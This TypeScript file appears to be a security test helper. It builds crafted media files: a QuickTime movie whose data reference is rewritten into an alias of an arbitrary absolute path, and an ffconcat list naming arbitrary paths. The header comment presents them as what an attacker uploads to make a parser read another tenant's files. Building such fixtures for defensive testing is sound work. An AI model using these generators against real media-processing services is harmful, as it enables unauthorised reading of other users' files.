// Media files that name other files: what an attacker uploads to make a parser read another studio's objects.
import { readFileSync, writeFileSync } from 'node:fs';

/** The QuickTime boxes on the way from the top of the file to a track's data references (`dref`). */
const CONTAINERS = new Set(['moov', 'trak', 'mdia', 'minf', 'dinf']);

/**
 * A Macintosh alias record (`alis`) in the shape ffmpeg's mov demuxer reads (libavformat/mov.c,
 * mov_read_dref): volume and file name fields, no relative levels, then a type-2 record holding the
 * absolute path. Its flags say "not self-contained": the samples are in the file it names.
 */
function aliasEntry(target: string): Buffer {
  const abs = Buffer.from(target);
  const name = Buffer.from(target.split('/').at(-1)!).subarray(0, 63);
  const padded = Buffer.alloc(abs.length + (abs.length & 1));
  abs.copy(padded);
  const record = Buffer.concat([
    Buffer.alloc(10),
    Buffer.from([0]), Buffer.alloc(27),
    Buffer.alloc(12),
    Buffer.from([name.length]), Buffer.concat([name, Buffer.alloc(63 - name.length)]),
    Buffer.alloc(16),
    Buffer.from([0xff, 0xff, 0xff, 0xff]),
    Buffer.alloc(16),
    Buffer.from([0, 2, abs.length >> 8, abs.length & 0xff]), padded,
    Buffer.from([0xff, 0xff, 0, 0]),
  ]);
  const body = Buffer.concat([Buffer.alloc(4), record]);
  const head = Buffer.alloc(8);
  head.writeUInt32BE(8 + body.length);
  head.write('alis', 4, 'latin1');
  return Buffer.concat([head, body]);
}

function rebuild(buf: Buffer, target: string): Buffer {
  const out: Buffer[] = [];
  for (let i = 0; i < buf.length; ) {
    const size = buf.readUInt32BE(i);
    const type = buf.toString('latin1', i + 4, i + 8);
    let payload = buf.subarray(i + 8, i + size);
    if (CONTAINERS.has(type)) payload = rebuild(payload, target);
    else if (type === 'dref') payload = Buffer.concat([Buffer.from([0, 0, 0, 0, 0, 0, 0, 1]), aliasEntry(target)]);
    const head = Buffer.alloc(8);
    head.writeUInt32BE(8 + payload.length);
    head.write(type, 4, 'latin1');
    out.push(head, payload);
    i += size;
  }
  return Buffer.concat(out);
}

/**
 * A copy of the one-track QuickTime movie `source` whose samples live in `targetPath` instead: its data
 * reference becomes an alias of that absolute path, and its own sample data is zeroed, so any picture
 * decoded from it came from the other file. Made from a copy of the target itself, the sample offsets
 * line up. Verified against ffmpeg 5.1: with `-enable_drefs 1 -use_absolute_path 1` it decodes the target's
 * frame; with the defaults it decodes nothing.
 */
export function aliasMovie(source: string, file: string, targetPath: string): string {
  const movie = rebuild(readFileSync(source), targetPath);
  for (let i = 0; i < movie.length; ) {
    const size = movie.readUInt32BE(i);
    if (movie.toString('latin1', i + 4, i + 8) === 'mdat') movie.fill(0, i + 8, i + size);
    i += size;
  }
  writeFileSync(file, movie);
  return file;
}

/** An ffconcat list whose entries are the given paths (the concat demuxer opens each one). */
export function concatList(file: string, paths: string[]): string {
  writeFileSync(file, `ffconcat version 1.0\n${paths.map((p) => `file '${p}'\n`).join('')}`);
  return file;
}
